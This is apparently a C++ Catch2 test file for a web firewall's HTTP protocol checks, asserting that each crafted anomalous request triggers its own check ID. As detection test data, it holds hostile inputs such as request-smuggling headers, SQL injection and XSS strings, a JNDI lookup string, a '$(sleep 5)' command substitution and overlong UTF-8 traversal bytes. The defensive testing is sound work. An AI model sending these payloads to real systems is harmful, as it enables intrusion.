// Protocol checks one by one: each crafted anomaly fires its check and only it; a plain request fires none.
#include <catch2/catch.hpp>

#include <cstring>
#include <string>
#include <utility>
#include <vector>

#include "protocol/checks.h"

using guard::protocol::Checker;
using guard::protocol::Finding;
using guard::request::FieldList;

namespace {

guard_str S(const std::string& s) { return {s.data(), s.size()}; }

struct Req {
  std::string method = "GET", path = "/api/items", body;
  std::vector<std::pair<std::string, std::string>> headers = {
      {"Host", "api.example.com"}, {"User-Agent", "curl/8.5.0"}, {"Accept", "*/*"}};
  std::vector<guard_header> hs;
  guard_request r{};
  const guard_request& Build() {
    hs.clear();
    for (auto& [n, v] : headers) hs.push_back({S(n), S(v)});
    r.method = S(method);
    r.path = S(path);
    r.body = S(body);
    r.headers = hs.data();
    r.header_count = hs.size();
    return r;
  }
  Req& Set(const std::string& name, const std::string& value) {
    for (auto& [n, v] : headers) {
      if (n == name) {
        v = value;
        return *this;
      }
    }
    headers.emplace_back(name, value);
    return *this;
  }
  Req& Drop(const std::string& name) {
    std::erase_if(headers, [&](auto& h) { return h.first == name; });
    return *this;
  }
};

std::vector<uint32_t> Run(Req& q, int paranoia = 1, FieldList* fields = nullptr) {
  FieldList empty;
  Checker c(paranoia, {});
  std::vector<Finding> out;
  c.Run(q.Build(), fields ? *fields : empty, &out);
  std::vector<uint32_t> ids;
  for (auto& f : out) ids.push_back(f.id);
  return ids;
}

using Ids = std::vector<uint32_t>;

}  // namespace

TEST_CASE("a plain request fires no check") {
  Req q;
  CHECK(Run(q, 4) == Ids{});
  Req post;
  post.method = "POST";
  post.body = "{\"a\":1}";
  post.Set("Content-Type", "application/json; charset=utf-8").Set("Content-Length", "7");
  CHECK(Run(post, 4) == Ids{});
}

TEST_CASE("each anomaly fires its own check") {
  { Req q; q.method = "PROPFIND"; CHECK(Run(q) == Ids{9601}); }
  { Req q; q.Set("Content-Length", "abc"); CHECK(Run(q) == Ids{9602}); }
  { Req q; q.method = "POST"; q.body = "0\r\n\r\n"; q.Set("Content-Length", "5").Set("Transfer-Encoding", "chunked");
    CHECK(Run(q) == Ids{9603}); }
  { Req q; q.method = "POST"; q.Set("Transfer-Encoding", "chunked, identity"); CHECK(Run(q) == Ids{9604}); }
  { Req q; q.body = "x=1"; q.Set("Content-Length", "3"); CHECK(Run(q) == Ids{9605}); }
  { Req q; q.Drop("Host"); CHECK(Run(q) == Ids{9608}); }
  { Req q; q.headers.emplace_back("Host", "evil.example"); CHECK(Run(q) == Ids{9608}); }
  { Req q; q.Set("Host", "203.0.113.7:8080"); CHECK(Run(q) == Ids{}); CHECK(Run(q, 2) == Ids{9619}); }
  { Req q; q.method = "POST"; q.body = "a=1"; q.Set("Content-Type", "application/x-www-form-urlencoded; charset=utf-7");
    CHECK(Run(q) == Ids{9609}); }
  { Req q; q.method = "POST"; q.body = "a=1"; q.Set("Content-Type", "application/x-evil"); CHECK(Run(q) == Ids{9610}); }
  // The charset value ends at the next parameter (SOAP 1.2 carries action="..." after it); YAML is an API body.
  { Req q; q.method = "POST"; q.body = "<a/>"; q.Set("Content-Length", "4");
    q.Set("Content-Type", "application/soap+xml; charset=utf-8; action=\"http://example.com/Get\"");
    CHECK(Run(q) == Ids{}); }
  { Req q; q.method = "POST"; q.body = "<a/>"; q.Set("Content-Length", "4");
    q.Set("Content-Type", "application/soap+xml; charset=utf-7; action=\"x\""); CHECK(Run(q) == Ids{9609}); }
  { Req q; q.method = "PUT"; q.body = "a: 1"; q.Set("Content-Length", "4"); q.Set("Content-Type", "text/yaml; charset=utf-8");
    CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("Proxy", "http://203.0.113.7:8080"); CHECK(Run(q) == Ids{9613}); }
  { Req q; q.Set("Connection", "keep-alive, Transfer-Encoding"); CHECK(Run(q) == Ids{9614}); }
  { Req q; q.Set("X-Bad Header", "1"); CHECK(Run(q) == Ids{9615}); }
  { Req q; q.path = "http://evil.example/api"; CHECK(Run(q) == Ids{9616}); }
  { Req q; q.Set("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"); CHECK(Run(q) == Ids{9617}); }
  { Req q; q.Set("Range", "bytes=10-2"); CHECK(Run(q) == Ids{9627}); }
  { Req q; q.Set("Accept-Encoding", std::string(120, 'g')); CHECK(Run(q) == Ids{9618}); }
  { Req q; q.Set("User-Agent", ""); CHECK(Run(q) == Ids{9620}); }
  { Req q; q.Set("Expect", "100-continue, evil"); CHECK(Run(q) == Ids{9621}); }
  { Req q; q.Set("X-Note", std::string("a\x01" "b")); CHECK(Run(q) == Ids{9607}); }
}

TEST_CASE("parser flags and decoded field values are checked") {
  Req q;
  FieldList fl;
  fl.SetFlag(guard::request::kInvalidEncoding);
  fl.Add(guard::request::Target::kArg, "q", std::string_view("a\x02", 2));
  CHECK(Run(q, 1, &fl) == Ids{9606, 9607});

  Req m;
  m.method = "POST";
  m.body = "--x";
  m.Set("Content-Type", "multipart/form-data; boundary=x");
  FieldList broken;
  broken.SetFlag(guard::request::kMalformedBody);
  CHECK(Run(m, 1, &broken) == Ids{9611});
  Req j;
  j.method = "POST";
  j.body = "{";
  j.Set("Content-Type", "application/json");
  CHECK(Run(j, 1, &broken) == Ids{9612});
}

TEST_CASE("paranoia levels and disabled ids select the checks") {
  Req q;
  q.Drop("User-Agent");
  CHECK(Run(q, 1) == Ids{});
  CHECK(Run(q, 2) == Ids{9622});
  Checker c(1, std::vector<uint32_t>{9601});
  q.method = "TRACE";
  FieldList fl;
  std::vector<Finding> out;
  c.Run(q.Build(), fl, &out);
  CHECK(out.empty());
}

// Header values are checked 16 bytes at a time, then 8, then byte by byte (checks.cc, HasControl): every
// byte value at every position of a longer value is judged as the definition says (below 0x20 except tab,
// CR and LF, or 0x7f), UTF-8 bytes included.
TEST_CASE("control characters are found at any position of long values, allowed bytes are not") {
  const std::string base = "Mozilla/5.0 (X11; Linux x86_64) \xc3\xa9t\xc3\xa9 Gecko/20100101";  // 51 bytes
  size_t found = 0;
  for (size_t pos = 0; pos < base.size(); ++pos) {
    for (int c = 0; c < 256; ++c) {
      std::string v = base;
      v[pos] = static_cast<char>(c);
      Req q;
      q.Set("X-Note", v);
      const bool control = (c < 0x20 && c != 0x09 && c != 0x0a && c != 0x0d) || c == 0x7f;
      INFO("byte " << c << " at " << pos);
      CHECK(Run(q) == (control ? Ids{9607} : Ids{}));
      found += control;
    }
  }
  CHECK(found == 30 * base.size());
}

TEST_CASE("h2c upgrades, method overrides, underscored framing headers, oversized values and numbers") {
  { Req q; q.Set("Upgrade", "h2c").Set("Connection", "Upgrade, HTTP2-Settings"); CHECK(Run(q) == Ids{9623}); }
  { Req q; q.Set("Upgrade", "websocket"); CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("X-HTTP-Method-Override", "DELETE"); CHECK(Run(q) == Ids{9624}); }  // on a GET
  { Req q; q.method = "POST"; q.body = "{}"; q.Set("Content-Type", "application/json").Set("Content-Length", "2");
    q.Set("X-HTTP-Method-Override", "PUT"); CHECK(Run(q) == Ids{}); }
  { Req q; q.method = "POST"; q.body = "{}"; q.Set("Content-Type", "application/json").Set("Content-Length", "2");
    q.Set("X-Method-Override", "TRACE"); CHECK(Run(q) == Ids{9624}); }
  {
    Req q;
    FieldList f;
    f.Add(guard::request::Target::kArg, "_method", "DELETE");
    CHECK(Run(q, 1, &f) == Ids{9624});  // ?_method=DELETE on a GET
    Req post;
    post.method = "POST";
    post.body = "_method=PUT";
    post.Set("Content-Type", "application/x-www-form-urlencoded").Set("Content-Length", "11");
    FieldList g;
    g.Add(guard::request::Target::kBodyArg, "_method", "PUT");
    CHECK(Run(post, 1, &g) == Ids{});  // the Rails/Laravel form convention
  }
  { Req q; q.method = "POST"; q.body = "q=1"; q.Set("Content-Type", "application/x-www-form-urlencoded");
    q.Set("Content-Length", "3").Set("Content_Length", "0"); CHECK(Run(q) == Ids{9625}); }
  { Req q; q.Set("X-Padding", std::string(9000, 'A')); CHECK(Run(q) == Ids{9626}); }
  { Req q; q.Set("Authorization", "Bearer " + std::string(6000, 'e')); CHECK(Run(q) == Ids{}); }
  { Req q; q.method = "POST"; q.body = "q=1"; q.Set("Content-Type", "application/x-www-form-urlencoded");
    q.Set("Content-Length", "99999999999999999999"); CHECK(Run(q) == Ids{9602}); }
  { Req q; q.Set("Range", "bytes=0-18446744073709551615"); CHECK(Run(q) == Ids{9627}); }
  { Req q; q.Set("Range", "bytes=0-,5-1,5-2,5-3"); CHECK(Run(q) == Ids{9627}); }
  { Req q; q.Set("Range", "bytes=0-1023,4096-8191"); CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("Host", "api.example.com:99999999"); CHECK(Run(q) == Ids{9608}); }
  { Req q; q.Set("Host", "api.example.com:8443"); CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("Host", "[2001:db8::1]:443"); CHECK(Run(q) == Ids{}); }
}

TEST_CASE("overlapping ranges are malformed; disjoint ones, in any order, are not") {
  { Req q; q.Set("Range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6"); CHECK(Run(q) == Ids{9627}); }  // byte 1 twice
  { Req q; q.Set("Range", "bytes=0-,0-,0-,0-,0-,0-"); CHECK(Run(q) == Ids{9627}); }
  { Req q; q.Set("Range", "bytes=0-99,50-"); CHECK(Run(q) == Ids{9627}); }
  { Req q; q.Set("Range", "bytes=-500,-100"); CHECK(Run(q) == Ids{9627}); }  // both end at the end
  { Req q; q.Set("Range", "bytes=500-999,0-499"); CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("Range", "bytes=0-499,-500"); CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("Range", "bytes=0-"); CHECK(Run(q) == Ids{}); }
}

TEST_CASE("a Content-Type charset is checked with or without a body, and a repeated parameter is an evasion") {
  { Req q; q.Set("Content-Type", "text/html; charset=ibm037"); CHECK(Run(q) == Ids{9609}); }  // a GET
  { Req q; q.Set("Content-Type", "application/json; charset=utf-8"); CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("Content-Type", "application/json"); CHECK(Run(q) == Ids{}); }
  { Req q; q.method = "POST"; q.body = "a=%E9"; q.Set("Content-Length", "5");  // CRS allows these too
    q.Set("Content-Type", "application/x-www-form-urlencoded; charset=windows-1252"); CHECK(Run(q) == Ids{}); }
  { Req q; q.method = "POST"; q.body = "--abc--"; q.Set("Content-Length", "7");
    q.Set("Content-Type", "multipart/form-data; boundary=abc; boundary=def"); CHECK(Run(q) == Ids{9611}); }
  { Req q; q.method = "POST"; q.body = "--abc--"; q.Set("Content-Length", "7");
    q.Set("Content-Type", "multipart/form-data; BOUNDARY=abc;boundary=\"abc\""); CHECK(Run(q) == Ids{9611}); }
  { Req q; q.method = "POST"; q.body = "{}"; q.Set("Content-Length", "2");
    q.Set("Content-Type", "application/json; charset=utf-8; charset=utf-7"); CHECK(Run(q) == Ids{9610}); }
  // A quoted value may hold ';' and '=' without starting a parameter.
  { Req q; q.method = "POST"; q.body = "--a;b--"; q.Set("Content-Length", "7");
    q.Set("Content-Type", "multipart/form-data; boundary=\"a;boundary=b\""); CHECK(Run(q) == Ids{}); }
  { Req q; q.method = "POST"; q.body = "<a/>"; q.Set("Content-Length", "4");
    q.Set("Content-Type", "application/soap+xml; charset=utf-8; action=\"urn:a;b\""); CHECK(Run(q) == Ids{}); }
}

TEST_CASE("date, language and encoding headers keep to their grammar") {
  for (const char* ok : {"Sun, 06 Nov 1994 08:49:37 GMT", "Sunday, 06-Nov-94 08:49:37 GMT", "Sun Nov  6 08:49:37 1994",
                         "Sat, 29 Oct 1994 19:43:31 GMT; length=34"}) {
    Req q;
    q.Set("If-Modified-Since", ok);
    CHECK(Run(q) == Ids{});
  }
  { Req q; q.Set("Accept-Language", "en-US,en;q=0.9,zh_CN;q=0.8,*;q=0.1"); CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("Accept-Encoding", "gzip, deflate, br, zstd;q=1.0, identity;q=0.5, *;q=0"); CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("If-Modified-Since", "Thu, 01 Jan 1970 00:00:00 GMT' OR 1=1"); CHECK(Run(q) == Ids{9628}); }
  { Req q; q.Set("Accept-Language", "en<script>alert(1)</script>"); CHECK(Run(q) == Ids{9628}); }
  { Req q; q.Set("Accept-Encoding", "${jndi:ldap://203.0.113.7/a}"); CHECK(Run(q) == Ids{9628}); }
  { Req q; q.Set("Date", "$(sleep 5)"); CHECK(Run(q) == Ids{9628}); }
  { Req q; q.Set("IF-unmodified-SINCE", "Thu, 01 Jan 1970\"><img src=x>"); CHECK(Run(q) == Ids{9628}); }  // any case
  { Req q; q.Set("Accept-LANGUAGE", "fr'||pg_sleep(5)--"); CHECK(Run(q) == Ids{9628}); }
  { Req q; q.Set("Accept-Lingo", "<x>"); CHECK(Run(q) == Ids{}); }  // not one of them
  // Other standard headers are not held to a grammar here.
  { Req q; q.Set("If-None-Match", "W/\"67ab43\", \"54ed21\""); CHECK(Run(q) == Ids{}); }
  { Req q; q.Set("Cache-Control", "private=\"Set-Cookie\", max-age=0"); CHECK(Run(q) == Ids{}); }
}

TEST_CASE("overlong UTF-8 in a decoded value is reported when the parser found invalid encoding") {
  Req q;
  FieldList fl;
  fl.SetFlag(guard::request::kInvalidEncoding);
  fl.Add(guard::request::Target::kArg, "f", std::string_view("..\xc0\xaf..\xc0\xaf" "etc", 11));
  CHECK(Run(q, 1, &fl) == Ids{9606, 9629});
  FieldList nul;
  nul.SetFlag(guard::request::kInvalidEncoding);
  nul.Add(guard::request::Target::kPath, "", std::string_view("/a\xe0\x80\xaf", 5));
  CHECK(Run(q, 1, &nul) == Ids{9606, 9629});
  FieldList bad;  // invalid, but not overlong: a stray continuation byte, a truncated sequence
  bad.SetFlag(guard::request::kInvalidEncoding);
  bad.Add(guard::request::Target::kArg, "q", std::string_view("\xff\xfe\xc3", 3));
  bad.Add(guard::request::Target::kArg, "r", "caf\xc3\xa9");
  CHECK(Run(q, 1, &bad) == Ids{9606});
}
